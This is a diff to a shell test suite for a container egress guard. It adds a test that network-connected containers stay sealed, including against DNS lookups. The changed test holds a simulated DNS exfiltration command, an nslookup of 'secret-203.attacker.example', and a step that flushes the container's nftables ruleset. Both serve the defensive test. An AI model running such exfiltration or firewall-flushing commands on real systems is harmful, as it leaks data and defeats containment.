@@ -101,20 +101,22 @@ teardown()
     says_sealed 208
 }
 
-@test "a network that is connected to a running container is of no use to it" {
-    keep agent --network named
-    podman network connect podman agent
+@test "a network that is connected to a running container is of no use to it, its name server included" {
+    server=$(podman network inspect named --format '{{(index .Subnets 0).Gateway}}')
+    keep agent
+    podman network connect named agent
     network_of agent ip -o link show eth1
-    run podman exec agent sh -c "export HTTPS_PROXY=http://$PROXY:3128; $(attempts 203)"
+    run podman exec agent sh -c "export HTTPS_PROXY=http://$PROXY:3128; $(attempts 203)
+        nslookup secret-203.attacker.example $server"
     says_sealed 203
     run network_of agent "$PROBE" tcp 203.0.113.203 443 --device eth1 --timeout-ms 1000
     [ "$status" -eq 1 ]
     [ -z "$(arrived 203)" ]
     # The guard is what denies it.
     network_of agent nft flush ruleset
+    podman exec agent nslookup secret-203.attacker.example "$server" || true
     run network_of agent "$PROBE" tcp 203.0.113.203 443
-    [ "$status" -eq 0 ] || fail "$output"
-    [ -n "$(arrived 203)" ]
+    [[ $status -eq 0 && $(arrived 203) == *"203.0.113.203 443"*secret-203* ]] || fail "$output $(arrived 203)"
 }
 
 @test "run --rm and rm --force leave nothing" {
